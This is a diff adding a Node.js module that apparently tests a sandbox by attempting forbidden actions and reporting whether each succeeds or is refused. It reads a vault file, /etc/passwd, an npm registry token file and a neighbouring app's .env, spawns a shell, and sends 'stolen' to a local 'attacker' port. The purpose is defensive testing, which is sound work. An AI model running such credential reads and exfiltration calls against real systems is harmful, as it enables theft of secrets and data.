@@ -1,0 +1,54 @@
+'use strict';
+
+// Attempts to read what is not the application's, and to get it out.
+
+const { spawnSync } = require('node:child_process');
+const fs = require('node:fs');
+const net = require('node:net');
+const { refused, succeeded } = require('../system');
+
+const ANSWER_MS = 5000;
+
+function readAll(files) {
+  const errors = new Set();
+  const read = [];
+  for (const [name, file] of Object.entries(files)) {
+    try {
+      fs.readFileSync(file);
+      read.push(name);
+    } catch (error) {
+      errors.add(error.code);
+    }
+  }
+  return read.length > 0 ? succeeded(read.join(', ')) : refused([...errors].join(', '));
+}
+
+const vault = ({ vaultFile, identityFile }) => (
+  readAll({ vault: vaultFile, identity: identityFile })
+);
+const passwd = () => readAll({ 'all accounts': '/etc/passwd' });
+const npmrc = ({ npmrcFile }) => readAll({ 'the registry token': npmrcFile });
+const neighbour = ({ neighbourFile }) => readAll({ 'its .env': neighbourFile });
+
+function shell() {
+  const { error, status, stdout } = spawnSync('/bin/sh', ['-c', 'echo uid $(id -u)'], {
+    encoding: 'utf8',
+  });
+  if (error) return refused(error.code);
+  return status === 0 ? succeeded(stdout.trim()) : refused(`exit code ${status}`);
+}
+
+// Succeeds once the attacker's server has answered: the data has arrived.
+function callOut({ attackerPort }) {
+  return new Promise((resolve) => {
+    const socket = net.connect(attackerPort, '127.0.0.1', () => socket.write('stolen\n'));
+    socket.setTimeout(ANSWER_MS, () => socket.destroy(new Error('no answer')));
+    socket.once('data', (data) => {
+      socket.destroy();
+      resolve(succeeded(String(data).trim()));
+    });
+    socket.once('error', (error) => resolve(refused(error.code ?? error.message)));
+  });
+}
+
+module.exports = { vault, passwd, npmrc, neighbour, shell, callOut };
